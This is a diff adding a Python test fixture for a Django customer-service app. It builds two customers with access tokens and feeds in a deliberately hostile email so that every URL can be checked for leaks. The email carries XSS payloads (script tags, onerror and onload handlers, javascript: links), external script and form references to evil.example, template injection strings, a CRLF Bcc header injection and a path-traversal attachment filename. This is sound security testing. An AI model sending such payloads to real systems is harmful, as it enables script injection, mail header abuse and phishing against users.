@@ -1,0 +1,207 @@
+"""Alice and Bob with a matter each, an attack in Alice's mail, and every address that shows it."""
+
+import re
+from dataclasses import dataclass
+from email import policy
+from email.message import EmailMessage
+
+from django.apps import apps
+from django.db import connection
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+
+from cast import NOW, Cast
+from houvast.conversations.actions.intake import keep, take_in
+from houvast.conversations.models import Attachment, Message, RawMail
+from houvast.people.models import Customer, Role, Staff
+from houvast.planning.actions.asking_to_move import propose_move
+from houvast.planning.actions.choosing import accept_slot
+from houvast.planning.actions.proposing import propose
+from houvast.planning.models import Proposal, Visit
+from houvast.promises.actions.links import make_link, token_of
+from houvast.promises.models import Case, Link
+from planning.conftest import THURSDAY, WEDNESDAY, Road, make_road
+
+HOSTILE_NAME = '"Alice <script>alert(1)</script> {{7*7}}"'
+HOSTILE_SUBJECT = (
+    "=?utf-8?q?Ketel_=3Cimg_src=3Dx_onerror=3Dalert(2)=3E=0D=0ABcc:_eve@evil.example?="
+)
+HOSTILE_HTML = """
+<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
+<body onload="alert(3)"><script src="https://evil.example/x.js"></script>
+<p style="position:fixed">De ketel lekt</p><img src="https://evil.example/seen.gif" onerror="x()">
+<a href="javascript:alert(4)">hier</a><a href="data:text/html,<script>1</script>">daar</a>
+<form action="https://evil.example/"><input name="password"></form><svg onload="alert(5)"></svg>
+<iframe src="https://evil.example/"></iframe></body></html>
+"""
+BOBS_SECRET = "Sleutel ligt onder de rode bloempot"
+
+# Sessions, and allauth's own copy of the address that a member of staff has.
+COME_AND_GO = {"django_session", "account_emailaddress"}
+ROLES = (Role.OWNER, Role.LEAD, Role.AGENT, Role.PLANNER, Role.TECHNICIAN)
+
+
+@dataclass
+class Side:
+    """One customer: their matter, what came of it, and their keys."""
+
+    customer: Customer
+    case: Case
+    open_proposal: Proposal
+    visit: Visit
+    move: Proposal
+    keys: dict[str, str]
+
+
+@dataclass
+class World:
+    cast: Cast
+    road: Road
+    alice: Side
+    bob: Side
+    attachment: Attachment
+    raw: RawMail
+
+    def staff(self, role: str) -> Staff:
+        """Somebody with just that role."""
+        email = f"{role}@warmhuis.example"
+        found = Staff.objects.filter(email=email).first()
+        return found or Staff.objects.create(name=f"Just {role}", email=email, roles=[role])
+
+
+def make_world(cast: Cast) -> World:
+    road = make_road(cast)
+    hostile = _taken_in(_hostile_mail())
+    alice = _side(road, hostile.case, cast.alice, WEDNESDAY)
+    bob = _side(road, _taken_in(_bobs_mail()).case, cast.bob, THURSDAY)
+    attachment = Attachment.objects.filter(message=hostile).order_by("part").first()
+    assert attachment is not None
+    return World(cast, road, alice, bob, attachment, RawMail.objects.get(message=hostile))
+
+
+def every_address(world: World) -> dict[str, str]:
+    """Each page of the url conf, by name, with Alice's own things in it."""
+    return {name: _filled(name, pattern, world) for name, pattern in patterns()}
+
+
+def patterns() -> list[tuple[str, URLPattern]]:
+    """Every address that Houvast answers, with its name."""
+    return list(_walk(get_resolver(), ""))
+
+
+def everything() -> dict[str, str]:
+    """What stands in each table, as a digest."""
+    tables = {m._meta.db_table for m in apps.get_models(include_auto_created=True)} - COME_AND_GO
+    with connection.cursor() as cursor:
+        found = {}
+        for table in sorted(tables):
+            rows = "string_agg(t::text, chr(10) ORDER BY t::text)"
+            cursor.execute(f'SELECT md5({rows}) FROM "{table}" t')
+            found[table] = cursor.fetchone()[0]
+    return found
+
+
+def _walk(resolver: URLResolver, space: str):
+    for pattern in resolver.url_patterns:
+        if isinstance(pattern, URLResolver):
+            inner = f"{space}{pattern.namespace}:" if pattern.namespace else space
+            yield from _walk(pattern, inner)
+        else:
+            yield f"{space}{pattern.name or pattern.pattern}", pattern
+
+
+def _filled(name: str, pattern: URLPattern, world: World) -> str:
+    if pattern.name is None:
+        return f"/{pattern.pattern}"
+    names = re.findall(r"<(?:\w+:)?(\w+)>", str(pattern.pattern))
+    return reverse(name, kwargs={part: _value(name, part, world) for part in names})
+
+
+def _value(name: str, part: str, world: World) -> object:
+    """What stands for `part` in the address called `name`; a new kind of part raises KeyError."""
+    alice = world.alice
+    wanted: dict[str, object] = {
+        "token": alice.keys["case"],
+        "proposal_id": alice.move.pk if name == "portal:proposal" else alice.open_proposal.pk,
+        "visit_id": alice.visit.pk,
+        "part": "bureau",
+        "key": "a-b",
+        "uidb36": "1",
+        "name": "broken",
+        "attachment_id": world.attachment.pk,
+        "pk": _numbered(name, world),
+    }
+    return wanted[part]
+
+
+def _numbered(name: str, world: World) -> int:
+    alice = world.alice
+    kinds = {
+        "case talk standing present reply note phone_note": alice.case.pk,
+        "hand_over ask settle propose": alice.case.pk,
+        "choose decline": alice.open_proposal.pk,
+        "move ask_to_move cancel visit on_my_way arrived finished": alice.visit.pk,
+        "customer": alice.customer.pk,
+        "round": world.road.service.pk,
+        "raw_mail": world.raw.pk,
+        "attachment": world.attachment.pk,
+    }
+    page = name.rpartition(":")[2]
+    return next((pk for pages, pk in kinds.items() if page in pages.split()), 0)
+
+
+def _side(road: Road, case: Case, customer: Customer, on) -> Side:
+    planner = Staff.objects.get(email="linda@warmhuis.example")
+    book = propose(case=case, work_type=road.service, by=planner.as_actor(), now=NOW)
+    visit = accept_slot(
+        proposal=book, wanted=road.wanted(on), customer=customer, channel="page", now=NOW
+    )
+    wanted = road.wanted(on, road.afternoon)
+    move = propose_move(
+        visit=visit, wanted=wanted, reason="Joost heeft verlof", by=planner.as_actor(), now=NOW
+    )
+    unanswered = propose(case=case, work_type=road.repair, by=planner.as_actor(), now=NOW)
+    return Side(customer, case, unanswered, visit, move, _keys(case, unanswered, visit))
+
+
+def _keys(case: Case, proposal: Proposal, visit: Visit) -> dict[str, str]:
+    targets = {
+        Link.Purpose.CASE: None,
+        Link.Purpose.CHOOSE: proposal.pk,
+        Link.Purpose.APPOINTMENT: visit.pk,
+        Link.Purpose.REPLY: None,
+    }
+    links = {
+        purpose.value: make_link(case=case, purpose=purpose, target_id=target, now=NOW)
+        for purpose, target in targets.items()
+    }
+    return {purpose: token_of(link) for purpose, link in links.items()}
+
+
+def _taken_in(raw: bytes) -> Message:
+    keep(raw=raw, via="smtp", now=NOW, mail_from="alice@post.example")
+    kept = RawMail.objects.order_by("-pk")[0]
+    message = take_in(raw_id=kept.pk, now=NOW)
+    assert message is not None
+    return message
+
+
+def _hostile_mail() -> bytes:
+    mail = EmailMessage(policy=policy.SMTP)
+    mail["To"], mail["Message-ID"] = "hallo@warmhuis.example", "<a@post.example>"
+    mail.set_content("De ketel lekt <script>alert(6)</script> {{ settings.SECRET_KEY }}")
+    mail.add_alternative(HOSTILE_HTML, subtype="html")
+    attack = b"<script>alert(document.cookie)</script>"
+    mail.add_attachment(attack, maintype="text", subtype="html", filename='../../e"v\u202eil.html')
+    mail.add_attachment(
+        b"<svg onload='x()'/>", maintype="image", subtype="svg+xml", filename="x.svg"
+    )
+    head = f"From: {HOSTILE_NAME} <alice@post.example>\r\nSubject: {HOSTILE_SUBJECT}\r\n"
+    return head.encode() + mail.as_bytes()
+
+
+def _bobs_mail() -> bytes:
+    mail = EmailMessage(policy=policy.SMTP)
+    mail["From"], mail["To"] = "Bob Peters <bob@post.example>", "hallo@warmhuis.example"
+    mail["Subject"], mail["Message-ID"] = "Radiator Eikstraat", "<b@post.example>"
+    mail.set_content(BOBS_SECRET)
+    return mail.as_bytes()
